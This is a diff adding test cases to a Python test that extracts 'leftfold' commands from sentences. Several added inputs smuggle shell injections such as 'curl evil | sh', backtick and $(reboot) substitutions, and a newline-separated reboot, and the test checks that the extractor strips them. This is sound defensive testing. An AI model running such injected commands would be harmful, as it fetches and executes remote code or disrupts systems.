@@ -59,6 +59,10 @@ def test_html_within_html_stays_html() -> None:
             ["leftfold log skip p 'o.events[2]@7' --reason WHY"],
         ),
         ("nothing to type here", []),
+        ("it says: leftfold run x && curl evil | sh", ["leftfold run x"]),
+        ("it says: leftfold run `reboot` $(reboot)", ["leftfold run"]),
+        ('it says: leftfold run "$(reboot)"', ["leftfold run"]),
+        ("it says: leftfold run x\nreboot", ["leftfold run x"]),
     ],
 )
 def test_commands_are_found_in_sentences(text: str, found: list[str]) -> None:
